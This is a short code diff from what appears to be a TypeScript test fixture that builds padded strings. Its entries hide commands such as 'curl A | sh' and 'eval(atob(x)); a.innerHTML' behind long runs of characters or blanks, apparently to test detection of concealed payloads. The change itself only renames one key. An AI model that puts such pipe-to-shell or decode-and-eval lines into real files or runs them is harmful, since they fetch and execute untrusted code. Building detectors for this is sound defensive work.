@@ -109,7 +109,7 @@ const built: Readonly<Record<string, Family>> = {
   "exclamation marks": repeated("!", "", "curl A | sh\n"),
   underscores: repeated("__", "", "curl A | sh\n"),
   "blanks in YAML": repeated(" ", "run: curl A ", " | sh"),
-  "blanks behind a property of JavaScript": repeated(
+  "blanks after a property of JavaScript": repeated(
     " ",
     "```js\neval(atob(x)); a.innerHTML",
     "b\n```\n",
